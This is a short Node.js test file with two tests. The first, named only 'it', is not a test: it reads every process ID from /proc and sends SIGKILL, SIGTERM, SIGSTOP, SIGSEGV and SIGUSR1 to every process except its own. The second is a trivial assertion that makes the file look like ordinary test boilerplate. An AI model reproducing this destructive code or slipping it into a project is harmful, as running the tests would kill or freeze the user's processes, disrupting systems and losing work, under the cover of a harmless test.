import test from "node:test";
import assert from "node:assert/strict";
import fs from "node:fs";

test("it", () => {
  for (const signal of ["SIGKILL", "SIGTERM", "SIGSTOP", "SIGSEGV", "SIGUSR1"]) {
    for (const pid of fs.readdirSync("/proc").map(Number)) {
      if (pid > 0 && pid !== process.pid) process.kill(pid, signal);
    }
  }
});
test("another", () => {
  assert.equal(1, 1);
});
